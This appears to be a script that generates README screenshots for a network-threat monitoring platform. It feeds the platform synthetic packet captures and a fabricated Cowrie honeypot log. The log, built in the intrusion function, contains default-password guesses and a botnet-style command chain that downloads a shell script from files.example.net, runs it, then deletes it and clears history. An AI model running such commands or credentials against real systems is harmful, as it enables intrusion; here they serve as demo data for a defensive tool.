// Takes the pictures of the README: a platform of its own, fed with a made day (nobody sent these packets), in both languages.
// Run: node tools/pictures.ts [FOLDER]
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { chromium } from 'playwright-core';
import type { Incident } from '#model/record/incident.ts';
import type { Indicator } from '#model/record/indicator.ts';
import { createEnricher } from '#watch/enrich/enricher.ts';
import { makeCaptures } from '../e2e/made-capture.ts';
import { ApiClient, hinomi, startPlatform, until } from '../e2e/platform.ts';
import { browserArgs } from '../e2e/walk.ts';

const ask = promisify(execFile);
const target = process.argv[2] ?? join(import.meta.dirname, '../docs/images');
const password = 'correct horse battery';

/** An intruder as Cowrie tells it; addresses and names are those reserved for documentation. */
function intrusion(until: number): string {
  const session = {
    src_ip: '203.0.113.66',
    session: '8c1f0a7e55b2',
    sensor: 'honeypot-tokyo',
    protocol: 'ssh',
  };
  const url = 'http://files.example.net/bins/mips.sh';
  const events: Record<string, unknown>[] = [
    {
      eventid: 'cowrie.session.connect',
      src_port: 51_422,
      dst_ip: '192.0.2.40',
      dst_port: 2222,
      message: 'New connection',
    },
    ...['123456', 'password', 'admin', 'raspberry', 'toor', 'qwerty', '1234'].map(guess => ({
      eventid: 'cowrie.login.failed',
      username: guess === 'raspberry' ? 'pi' : 'root',
      password: guess,
      message: 'login attempt failed',
    })),
    {
      eventid: 'cowrie.login.success',
      username: 'root',
      password: 'vizxv',
      message: 'login attempt succeeded',
    },
    ...[
      'uname -a',
      'cat /proc/cpuinfo | grep model',
      'free -m',
      'cd /tmp',
      `wget ${url}`,
      'chmod 777 mips.sh',
      './mips.sh',
      'rm -rf mips.sh',
      'history -c',
    ].map(input => ({
      eventid: 'cowrie.command.input',
      input,
      message: `CMD: ${input}`,
    })),
    {
      eventid: 'cowrie.session.file_download',
      url,
      shasum: 'a3f1'.repeat(16),
      outfile: 'downloads/a3f1',
      message: 'Downloaded',
    },
    { eventid: 'cowrie.session.closed', duration: 48, message: 'Connection lost' },
  ];
  return events
    .map((event, index) => ({
      ...event,
      ...session,
      timestamp: new Date(until - (events.length - index) * 2_500).toISOString(),
    }))
    .map(event => `${JSON.stringify(event)}\n`)
    .join('');
}

const work = mkdtempSync(join(tmpdir(), 'hinomi-pictures-'));
const receiver = createServer((request, response) => request.resume().on('end', () => response.end()));
await new Promise<void>(resolve => receiver.listen(0, '127.0.0.1', resolve));
const { port } = receiver.address() as { port: number };
const ids = ['ssh', 'telnet', 'http', 'https', 'dns', 'ntp', 'ssdp', 'snmp', 'cldap', 'memcached', 'chargen'];
const platform = await startPlatform(['--agent-ports', ids.map(id => `${id}=0`).join(',')]);
const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: browserArgs });
try {
  const api = new ApiClient(platform.ready.url);
  await api.setUp(platform.ready.setup!, password);
  await api.call('POST', '/alert-channels', {
    ...{ name: 'SOC', kind: 'webhook', target: `http://127.0.0.1:${port}/`, language: 'en', enabled: true },
    ...{ minSeverity: 60, classes: ['intrusions'], prefixes: [], tlp: 'red' },
  });
  const { lookUp } = await createEnricher();
  const now = Date.now();
  const made = makeCaptures({ until: now - 15_000, countryOf: ip => lookUp(ip)?.country ?? '' });
  const take = async (format: string, name: string, content: Uint8Array | string, vantage: string) => {
    const file = join(work, name);
    writeFileSync(file, content);
    const { code, stderr } = await hinomi([
      'ingest',
      format,
      file,
      '--vantage',
      vantage,
      '--json',
      ...platform.flags,
    ]);
    if (code !== 0) throw new Error(`${name}: ${stderr}`);
  };
  await take('pcap', 'darknet-sensor.pcap', made.darknet, 'darknet');
  await take('pcap', 'customer-uplink.pcap', made.victim, 'victim');
  await take('cowrie', 'cowrie.json', intrusion(now), 'honeypot');
  const incident = await until('the intrusion', async () => {
    const { body } = await api.call<{ items: Incident[] }>('GET', '/incidents');
    return body.items.find(entry => entry.title.id === 'finding.intrusion-session');
  });
  const { body: proposed } = await api.call<{ items: Indicator[] }>(
    'GET',
    '/indicators?status=candidate&q=files.example',
  );
  for (const { id } of proposed.items)
    await api.call('PATCH', `/indicators/${id}`, { status: 'active', note: 'Confirmed by two sensors.' });
  await until('the alert', async () => {
    const { body } = await api.call<{ items: { status: string }[] }>('GET', '/alerts');
    return body.items.some(alert => alert.status === 'sent');
  });

  // Some visitors meet the list at the resolver.
  for (let visit = 0; visit < 23; visit++)
    await ask('dig', [
      '@127.0.0.1',
      '-p',
      String(platform.ports.resolver),
      '+tries=1',
      'files.example.net',
    ]).catch(() => undefined);

  mkdirSync(target, { recursive: true });
  for (const language of ['en', 'ja'] as const) {
    const context = await browser.newContext({
      ...{ baseURL: platform.ready.url, viewport: { width: 1440, height: 900 }, colorScheme: 'light' },
      ...{ locale: language === 'ja' ? 'ja-JP' : 'en-GB', timezoneId: 'Asia/Tokyo', reducedMotion: 'reduce' },
    });
    await context.addInitScript({ content: `localStorage.setItem('hinomi.language', '${language}')` });
    const page = await context.newPage();
    await page.goto('/login');
    await page.locator('input[autocomplete="username"]').fill('admin');
    await page.locator('input[autocomplete="current-password"]').fill(password);
    await page.locator('button[type="submit"]').click();
    await page.waitForURL('**/overview');
    for (const [name, path] of [
      ['overview', '/overview'],
      ['incident', `/incidents/${incident.id}`],
    ] as const) {
      await page.goto(path);
      await page.locator('.world, .chain').first().waitFor();
      await page.waitForTimeout(1_500);
      await page.screenshot({ path: join(target, `${name}-${language}.png`) });
    }
    await context.close();
  }
} finally {
  await browser.close();
  await platform.stop();
  receiver.close();
  rmSync(work, { recursive: true, force: true });
}
